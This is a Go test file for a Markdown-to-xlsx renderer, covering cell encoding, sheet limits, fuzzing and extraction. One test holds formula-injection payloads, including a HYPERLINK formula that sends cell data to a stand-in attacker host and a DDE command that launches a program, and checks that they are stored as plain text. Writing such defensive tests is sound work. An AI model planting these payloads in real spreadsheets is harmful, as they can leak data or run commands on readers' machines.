package office

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/json"
	"encoding/xml"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"github.com/openclaw-go/openclaw/tools"
	"github.com/openclaw-go/openclaw/tools/docextract"
)

func TestColName(t *testing.T) {
	for _, tc := range []struct {
		n    int
		want string
	}{
		{0, ""}, {-3, ""}, {1, "A"}, {2, "B"}, {26, "Z"}, {27, "AA"}, {28, "AB"}, {52, "AZ"}, {53, "BA"},
		{702, "ZZ"}, {703, "AAA"}, {16384, "XFD"}, {18278, "ZZZ"}, {18279, "AAAA"},
	} {
		if got := colName(tc.n); got != tc.want {
			t.Errorf("colName(%d) = %q, want %q", tc.n, got, tc.want)
		}
	}
	// Round trip against a reader's own arithmetic.
	for n := 1; n <= maxCols; n += 97 {
		back, err := excelize.ColumnNameToNumber(colName(n))
		if err != nil || back != n {
			t.Fatalf("colName(%d) = %q reads back as %d, %v", n, colName(n), back, err)
		}
	}
}

func TestNumericCell(t *testing.T) {
	for _, tc := range []struct {
		in, want string
		ok       bool
	}{
		{"1", "1", true}, {" -42 ", "-42", true}, {"+7", "7", true}, {"1,200", "1200", true}, {"2.50", "2.5", true},
		{"0.5", "0.5", true}, {".5", "0.5", true}, {"1e3", "1000", true}, {"123456789012345", "123456789012345", true},
		{"007", "", false}, {"0x1F", "", false}, {"1_000", "", false}, {"NaN", "", false}, {"Inf", "", false},
		{"1e999", "", false}, {"12%", "", false}, {"$5", "", false}, {"", "", false}, {"-2+3", "", false},
		// More digits than Excel keeps: an ID, kept as written.
		{"4111111111111111", "", false}, {"1234567890.123456", "", false},
		{"12345678901234500000", "1.23456789012345e+19", true},
	} {
		got, ok := numericCell(tc.in)
		if got != tc.want || ok != tc.ok {
			t.Errorf("numericCell(%q) = %q, %v; want %q, %v", tc.in, got, ok, tc.want, tc.ok)
		}
	}
}

// openXlsx renders md and opens the result with excelize, a reader we
// did not write.
func openXlsx(t *testing.T, md string) (*excelize.File, map[string]string) {
	t.Helper()
	return openDoc(t, parseMarkdown([]byte(md)))
}

// openDoc is openXlsx for a document built by hand, so that cells hold
// exactly what the test says, Markdown emphasis and escapes aside.
func openDoc(t *testing.T, doc []block) (*excelize.File, map[string]string) {
	t.Helper()
	data, _, err := renderXlsx(doc)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "out.xlsx")
	if err := os.WriteFile(path, data, 0o600); err != nil {
		t.Fatal(err)
	}
	parts := readZip(t, path)
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f, parts
}

func TestXlsxParts(t *testing.T) {
	_, parts := openXlsx(t, "| a |\n|---|\n| 1 |\n\n## Two\n\n| b |\n|---|\n| x |\n")
	var names []string
	for n := range parts {
		names = append(names, n)
	}
	slices.Sort(names)
	want := []string{"[Content_Types].xml", "_rels/.rels", "xl/_rels/workbook.xml.rels", "xl/styles.xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"}
	if !slices.Equal(names, want) {
		t.Fatalf("parts = %q, want %q", names, want)
	}
	if !strings.Contains(parts["xl/styles.xml"], `<b/>`) || !strings.Contains(parts["xl/worksheets/sheet1.xml"], `<c r="A1" s="1" t="inlineStr">`) {
		t.Errorf("header not bold:\n%s\n%s", parts["xl/styles.xml"], parts["xl/worksheets/sheet1.xml"])
	}
	if !strings.Contains(parts["xl/worksheets/sheet1.xml"], `<c r="A2"><v>1</v></c>`) {
		t.Errorf("number not numeric: %s", parts["xl/worksheets/sheet1.xml"])
	}
	if strings.Contains(parts["xl/worksheets/sheet2.xml"], "tabSelected") || !strings.Contains(parts["xl/worksheets/sheet1.xml"], "tabSelected") {
		t.Error("the first sheet should be the selected one")
	}
}

// TestXlsxFormulaText performs formula injection: cells that a reader
// would run as formulas (or DDE commands) must arrive as plain text.
func TestXlsxFormulaText(t *testing.T) {
	attacks := []string{
		`=HYPERLINK("https://evil.example/?d="&A1,"click")`,
		`=cmd|' /C calc'!A0`,
		`+SUM(1+1)`,
		`-2+3`,
		`@SUM(A1)`,
		`=1+1`,
	}
	rows := [][]string{{"h"}}
	for _, a := range attacks {
		rows = append(rows, []string{a})
	}
	f, parts := openDoc(t, []block{{kind: kTable, rows: rows}})
	sheet := parts["xl/worksheets/sheet1.xml"]
	if strings.Contains(sheet, "<f>") || strings.Contains(sheet, "<f ") {
		t.Fatalf("sheet holds a formula: %s", sheet)
	}
	for i, a := range attacks {
		ref := "A" + string(rune('2'+i))
		if got, _ := f.GetCellValue("Sheet1", ref); got != a {
			t.Errorf("%s = %q, want %q", ref, got, a)
		}
		if typ, _ := f.GetCellType("Sheet1", ref); typ != excelize.CellTypeInlineString {
			t.Errorf("%s type = %v, want inline string", ref, typ)
		}
		if fm, _ := f.GetCellFormula("Sheet1", ref); fm != "" {
			t.Errorf("%s has formula %q", ref, fm)
		}
	}
}

func TestXlsxText(t *testing.T) {
	long := strings.Repeat("é", maxCellChars+10)
	emoji := strings.Repeat("😀", maxCellChars) // two UTF-16 units each
	f, parts := openDoc(t, []block{{kind: kTable, rows: [][]string{
		{"h", "i"},
		{"a\x01b\x1fc\uFFFEd", `<&>"'`},
		{"_x0041_", "_x005F_"},
		{"4111111111111111", "007"},
		{long, emoji},
		{"", "x"},
	}}})
	for ref, want := range map[string]string{
		"A2": "abcd", "B2": `<&>"'`,
		// Literal escape sequences survive a reader that decodes them.
		"A3": "_x0041_", "B3": "_x005F_",
		"A4": "4111111111111111", "B4": "007",
		"A5": strings.Repeat("é", maxCellChars), "B5": strings.Repeat("😀", maxCellChars/2),
		"A6": "", "B6": "x",
	} {
		if got, _ := f.GetCellValue("Sheet1", ref); got != want {
			t.Errorf("%s = %.40q (%d runes), want %.40q (%d runes)", ref, got, utf8.RuneCountInString(got), want, utf8.RuneCountInString(want))
		}
	}
	if strings.Contains(parts["xl/worksheets/sheet1.xml"], `r="A6"`) {
		t.Error("an empty body cell was written")
	}
	rows, err := f.GetRows("Sheet1")
	if err != nil || len(rows) != 6 || strings.Join(rows[0], ",") != "h,i" {
		t.Errorf("rows = %.200q, %v", rows, err)
	}
}

func TestXlsxLimits(t *testing.T) {
	wide := func(n int) string {
		return "|" + strings.Repeat(" a |", n) + "\n|" + strings.Repeat("---|", n) + "\n"
	}
	if _, _, err := renderXlsx(parseMarkdown([]byte(wide(maxCols + 1)))); err == nil || !strings.Contains(err.Error(), `sheet "Sheet1": table row 1 has 16385 columns; a sheet holds at most 16384`) {
		t.Errorf("too wide: %v", err)
	}
	f, _ := openXlsx(t, wide(maxCols))
	if got, _ := f.GetCellValue("Sheet1", "XFD1"); got != "a" {
		t.Errorf("XFD1 = %q", got)
	}
	// Tall sheets cannot come from 2 MB of Markdown, so check the plan.
	half := make([][]string, maxRows/2)
	if err := checkSheetSize(&sheetPlan{name: "T", tables: [][][]string{half, half[:len(half)-1]}}); err != nil {
		t.Errorf("exactly %d rows: %v", maxRows, err)
	}
	if err := checkSheetSize(&sheetPlan{name: "T", tables: [][][]string{half, half}}); err == nil || !strings.Contains(err.Error(), `sheet "T" needs 1048577 rows; a sheet holds at most 1048576`) {
		t.Errorf("too tall: %v", err)
	}
	_, _, err := renderXlsx(parseMarkdown([]byte(strings.Repeat("## s\n\n| a |\n|---|\n\n", maxSheets+1))))
	if err == nil || !strings.Contains(err.Error(), "101 sheets; at most 100") {
		t.Errorf("too many sheets: %v", err)
	}
}

// FuzzXlsx checks that any Markdown gives a well-formed workbook whose
// sheet names Excel accepts, or a clear error.
func FuzzXlsx(f *testing.F) {
	for _, s := range []string{
		"| a | b |\n|---|---|\n| 1 | x |\n",
		"## Sales: Q1/Q2 [draft]\n\n| Item | Price |\n|---|---|\n| Tea | 2.50 |\n\n## sales\n\n| z |\n|---|\n| =1+1 |\n",
		"| _x0041_ | \x00\x01\uFFFE<&> |\n|-|-|\n| 007 | 1e5 |",
		"## 'History'\n\n| a |\n|-|\n",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, md string) {
		data, n, err := renderXlsx(parseMarkdown([]byte(md)))
		if err != nil {
			return
		}
		zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
		if err != nil {
			t.Fatal(err)
		}
		var workbook []byte
		for _, zf := range zr.File {
			rc, _ := zf.Open()
			b, _ := io.ReadAll(rc)
			rc.Close()
			if err := wellFormed(b); err != nil {
				t.Fatalf("%s: %v", zf.Name, err)
			}
			if zf.Name == "xl/workbook.xml" {
				workbook = b
			}
		}
		if len(zr.File) != 5+n {
			t.Fatalf("%d parts for %d sheets", len(zr.File), n)
		}
		var wb struct {
			Sheets []struct {
				Name string `xml:"name,attr"`
			} `xml:"sheets>sheet"`
		}
		if err := xml.Unmarshal(workbook, &wb); err != nil || len(wb.Sheets) != n {
			t.Fatalf("workbook: %d sheets, %v", len(wb.Sheets), err)
		}
		seen := map[string]bool{}
		for _, sh := range wb.Sheets {
			name := sh.Name
			if name == "" || len(utf16.Encode([]rune(name))) > 31 || strings.ContainsAny(name, "[]:*?/\\") ||
				strings.HasPrefix(name, "'") || strings.HasSuffix(name, "'") || seen[strings.ToLower(name)] {
				t.Fatalf("bad sheet name %q in %q", name, wb.Sheets)
			}
			seen[strings.ToLower(name)] = true
		}
	})
}

// TestXlsxExtract reads a rendered workbook back with the gateway's own
// extractor.
func TestXlsxExtract(t *testing.T) {
	dir, m := setup(t, nil)
	md := "## Prices\n\n| Item | Price |\n|---|---|\n| Tea | 2.50 |\n| =1+1 | 1,200 |\n\n| k |\n|---|\n| v |\n\n## Other\n\n| a |\n|---|\n| b |\n"
	r, err := call(t, m["XlsxRenderTool"], map[string]any{"markdown": md, "filename": "book"})
	if err != nil {
		t.Fatal(err)
	}
	ex := docextract.Tools(func(tools.Who) (string, error) { return dir, nil })[0]
	raw, _ := json.Marshal(map[string]any{"path": r.Path})
	res, err := ex.Call(context.Background(), tools.Call{Name: ex.Spec().Name, Args: raw})
	if err != nil || res.IsError {
		t.Fatalf("extract: %v %s", err, res.Text)
	}
	want := `sheets: 2 ("Prices", "Other")` + "\n\n## Prices\nItem\tPrice\nTea\t2.5\n=1+1\t1200\n\nk\nv\n\n## Other\na\nb\n"
	if !strings.HasSuffix(res.Text, want) {
		t.Errorf("extracted:\n%s\nwant suffix:\n%s", res.Text, want)
	}
}
